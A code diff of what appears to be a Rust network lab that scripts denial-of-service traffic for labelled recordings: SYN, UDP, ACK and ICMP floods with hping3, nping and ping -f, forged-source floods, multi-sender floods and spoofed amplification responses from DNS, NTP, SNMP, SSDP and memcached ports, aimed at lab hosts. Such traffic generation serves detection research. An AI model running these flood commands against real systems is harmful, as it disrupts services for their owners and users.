@@ -1,13 +1,15 @@
 //! Floods as hping3 and `ping -f` make them: of every protocol, at different rates, from one source and from forged ones.
 
+use std::thread::scope;
 use std::time::Duration;
 
-use anyhow::{Result, ensure};
-use lab::attacks::{Flood, flood, forge_sources};
+use anyhow::Result;
+use lab::attacks::{Flood, ended_well, flood, forge_sources, run_tool};
+use lab::namespace::Namespace;
 use lab::network::{FIREWALLED_LAN_HOST, INTERNET, LAN_HOST, LAN_HOST_V6};
-use lab::recording::Label;
 
-use crate::stage::{Scene, Stage};
+use crate::scenario::{ATTACKER, ATTACKER_V6, ATTACKERS, FORGED, INSIDE, INSIDE_V6, Scenario};
+use crate::stage::Scene;
 
 /// How long one flood may take.
 const LIMIT: Duration = Duration::from_secs(8);
@@ -43,93 +45,107 @@ const FROM_OUTSIDE: &[Row] = &[
 const FROM_INSIDE: &[Row] = &[
     ("flood_syn", "hping3-outbound", "outbound_syn", Flood::Syn(80), INTERNET[0], 6_000, 150),
     ("flood_udp", "hping3-outbound", "outbound_udp", Flood::Udp(53, 400), INTERNET[1], 5_000, 200),
+    ("flood_other", "hping3-outbound", "outbound_ack", Flood::Ack(443), INTERNET[2], 5_000, 200),
+    ("flood_other", "hping3-outbound", "outbound_icmp", Flood::Icmp(600), INTERNET[0], 4_000, 300),
+    ("flood_syn", "hping3-outbound", "outbound_syn_200_per_second", Flood::Syn(443), INTERNET[3], 1_200, 5_000),
 ];
 
-/// One flood.
-pub fn record_one(stage: &mut Stage) {
-    from_outside(stage, 0, FROM_OUTSIDE[1]);
-}
+/// From many forged sources: class, name, what, packets, microseconds between them.
+const FROM_FORGED: &[(&str, &str, Flood<'static>, u32, u32)] = &[
+    ("flood_syn", "forged_syn_open", Flood::Syn(80), 6_000, 300),
+    ("flood_syn", "forged_syn_closed", Flood::Syn(8443), 5_000, 300),
+    ("flood_syn", "forged_syn_400_per_second", Flood::Syn(80), 2_000, 2_500),
+    ("flood_udp", "forged_udp", Flood::Udp(53, 100), 5_000, 300),
+    ("flood_udp", "forged_udp_800_per_second", Flood::Udp(27015, 60), 3_000, 1_250),
+    ("flood_other", "forged_icmp", Flood::Icmp(56), 4_000, 300),
+    ("flood_other", "forged_ack", Flood::Ack(80), 4_000, 300),
+];
+
+/// Answers that nobody asked for, from the ports of services that amplify: name, hping3's options, packets, microseconds.
+const AMPLIFIED: &[(&str, &str, u32, u32)] = &[
+    ("amp_dns", "--udp -s 53 -k -p 40001 -d 1200", 4_000, 400),
+    ("amp_dns_many_ports", "--udp -s 53 -k -p ++20000 -d 900", 4_000, 400),
+    ("amp_ntp", "--udp -s 123 -k -p 40002 -d 440", 5_000, 300),
+    ("amp_snmp", "--udp -s 161 -k -p 40003 -d 1100", 3_000, 600),
+    ("amp_ssdp", "--udp -s 1900 -k -p 40004 -d 300", 5_000, 300),
+    ("amp_memcached", "--udp -s 11211 -k -p 40005 -d 1380", 3_000, 500),
+    ("amp_dns_300_per_second", "--udp -s 53 -k -p 40006 -d 1200", 1_800, 3_300),
+];
+
+/// By nping over IPv6: class, name, options.
+const OVER_V6: &[(&str, &str, &str)] = &[
+    ("flood_syn", "syn_v6", "--tcp --flags syn -p 80 --rate 1500 -c 6000"),
+    ("flood_syn", "syn_v6_closed", "--tcp --flags syn -p 8443 --rate 800 -c 4000"),
+    ("flood_other", "ack_v6", "--tcp --flags ack -p 80 --rate 1500 -c 5000"),
+    ("flood_udp", "udp_v6", "--udp -p 53 --data-length 300 --rate 1500 -c 5000"),
+];
 
 /// All of them.
-pub fn record(stage: &mut Stage) {
-    for (number, row) in FROM_OUTSIDE.iter().enumerate() {
-        from_outside(stage, number, *row);
-    }
-    for (class, kind, name, what, target, count, interval_us) in FROM_INSIDE {
-        let label = Label { class, kind, name, attacker: LAN_HOST, victim: target, granularity: "all" };
-        stage.record_headers(label, |scene| send(&scene.network.lan, *what, target, *count, *interval_us));
-    }
-    record_forged(stage);
-    record_v6(stage);
-    record_over_a_slow_line(stage);
-}
-
-fn from_outside(stage: &mut Stage, number: usize, row: Row) {
-    let (class, kind, name, what, target, count, interval_us) = row;
-    let attacker = number % stage.attackers.len();
-    let address = stage.attackers[attacker].address();
-    let label = Label { class, kind, name, attacker: &address, victim: target, granularity: "all" };
-    stage.record_headers(label, |scene| send(&scene.attackers[attacker].namespace, what, target, count, interval_us));
-}
-
-fn send(from: &lab::namespace::Namespace, what: Flood<'_>, target: &str, count: u32, interval_us: u32) -> Result<()> {
-    let finished = flood(from, what, target, count, interval_us, LIMIT)?;
-    // hping3 ends with 1 when nothing was answered; only a refusal to start is a failure.
-    ensure!(!finished.stderr.contains("ommand not found"), "{}", finished.stderr);
-    Ok(())
-}
-
-/// Floods whose every packet claims another source.
-fn record_forged(stage: &mut Stage) {
-    let rows = [
-        ("flood_syn", "forged_syn_open", Flood::Syn(80), 6_000, 300),
-        ("flood_syn", "forged_syn_closed", Flood::Syn(8443), 5_000, 300),
-        ("flood_udp", "forged_udp", Flood::Udp(53, 100), 5_000, 300),
-        ("flood_other", "forged_icmp", Flood::Icmp(56), 4_000, 300),
-    ];
-    for (class, name, what, count, interval_us) in rows {
-        let label = Label {
-            class,
-            kind: "hping3-forged",
-            name,
-            attacker: "*spoofed/many*",
-            victim: LAN_HOST,
-            granularity: "all",
-        };
-        stage.record_headers(label, |scene| {
-            let from = &scene.attackers[2].namespace;
-            let _forged = forge_sources(scene.network, from)?;
-            send(from, what, LAN_HOST, count, interval_us)
-        });
-    }
-}
-
-fn record_v6(stage: &mut Stage) {
-    let address = stage.attackers[1].address_v6();
-    let label = Label {
-        class: "flood_other",
-        kind: "ping-flood",
-        name: "icmp_v6",
-        attacker: &address,
-        victim: LAN_HOST_V6,
-        granularity: "all",
+pub fn scenarios() -> Vec<Scenario> {
+    let single = |rows: &'static [Row], attacker: &'static str, is_inside: bool| {
+        rows.iter().map(move |&(class, kind, name, what, target, count, interval_us)| {
+            Scenario::attack(class, kind, name, attacker, target, move |s| {
+                send(if is_inside { s.lan() } else { s.attacker() }, what, target, count, interval_us)
+            })
+        })
     };
-    stage.record_headers(label, |scene| ping_flood(scene, LAN_HOST_V6));
-    let address = stage.attackers[1].address();
-    let label = Label { name: "ping_flood", attacker: &address, victim: LAN_HOST, ..label };
-    stage.record_headers(label, |scene| ping_flood(scene, LAN_HOST));
+    let forged = FROM_FORGED.iter().map(|&(class, name, what, count, interval_us)| {
+        Scenario::attack(class, "hping3-forged", name, FORGED, LAN_HOST, move |s| {
+            let _forged = forge_sources(&s.network, s.attacker())?;
+            send(s.attacker(), what, LAN_HOST, count, interval_us)
+        })
+    });
+    let amplified = AMPLIFIED.iter().map(|&(name, options, count, interval_us)| {
+        Scenario::attack("flood_amp", "hping3-amplified", name, FORGED, LAN_HOST, move |s| {
+            let _forged = forge_sources(&s.network, s.attacker())?;
+            send(s.attacker(), Flood::Other(options), LAN_HOST, count, interval_us)
+        })
+        .towards()
+    });
+    let over_v6 = OVER_V6.iter().map(|&(class, name, options)| {
+        Scenario::attack(class, "nping-v6", name, ATTACKER_V6, LAN_HOST_V6, move |s| {
+            run_tool(s.attacker(), &format!("nping -6 -H -q --delay 0 {options} {LAN_HOST_V6}"), LIMIT)
+        })
+    });
+    let all = single(FROM_OUTSIDE, ATTACKER, false).chain(single(FROM_INSIDE, INSIDE, true));
+    let all = all.chain(forged).chain(amplified).chain(over_v6).chain(others());
+    all.map(|scenario| scenario.headers().loud()).collect()
 }
 
-fn ping_flood(scene: &Scene<'_>, target: &str) -> Result<()> {
-    scene.attackers[1].namespace.run_within(&format!("ping -n -q -f -c 5000 {target}"), LIMIT).map(|_| ())
+fn others() -> Vec<Scenario> {
+    vec![
+        Scenario::attack("flood_other", "ping-flood", "icmp_v6", ATTACKER_V6, LAN_HOST_V6, |s| {
+            ping_flood(s.attacker(), LAN_HOST_V6)
+        }),
+        Scenario::attack("flood_other", "ping-flood", "ping_flood", ATTACKER, LAN_HOST, |s| {
+            ping_flood(s.attacker(), LAN_HOST)
+        }),
+        Scenario::attack("flood_other", "ping-flood", "outbound_icmp_v6", INSIDE_V6, "2001:db8:10::10", |s| {
+            ping_flood(s.lan(), "2001:db8:10::10")
+        }),
+        Scenario::attack("flood_syn", "hping3-three", "syn_from_three", ATTACKERS, LAN_HOST, |s| {
+            from_three(s, Flood::Syn(80), 2_500, 600)
+        }),
+        Scenario::attack("flood_udp", "hping3-three", "udp_from_three", ATTACKERS, LAN_HOST, |s| {
+            from_three(s, Flood::Udp(4500, 500), 2_000, 700)
+        }),
+    ]
 }
 
-fn record_over_a_slow_line(stage: &mut Stage) {
-    if let Err(error) = stage.network.limit_rate(2_000) {
-        eprintln!("no slow line: {error:#}");
-    }
-    from_outside(stage, 0, ("flood_syn", "hping3-syn", "slow_line_syn", Flood::Syn(80), LAN_HOST, 6_000, 400));
-    from_outside(stage, 1, ("flood_udp", "hping3-udp", "slow_line_udp", Flood::Udp(4000, 800), LAN_HOST, 3_000, 800));
-    from_outside(stage, 2, ("flood_other", "hping3-icmp", "slow_line_icmp", Flood::Icmp(400), LAN_HOST, 3_000, 800));
-    stage.network.unlimit_rate();
+fn from_three(scene: &Scene, what: Flood<'static>, count: u32, interval_us: u32) -> Result<()> {
+    scope(|threads| {
+        let senders = scene.attackers.iter();
+        let running: Vec<_> = senders
+            .map(|one| threads.spawn(move || send(&one.namespace, what, LAN_HOST, count, interval_us)))
+            .collect();
+        running.into_iter().try_for_each(|one| one.join().unwrap_or(Ok(())))
+    })
+}
+
+fn send(from: &Namespace, what: Flood<'_>, target: &str, count: u32, interval_us: u32) -> Result<()> {
+    ended_well("hping3", &flood(from, what, target, count, interval_us, LIMIT)?)
+}
+
+fn ping_flood(from: &Namespace, target: &str) -> Result<()> {
+    run_tool(from, &format!("ping -n -q -f -c 5000 {target}"), LIMIT)
 }
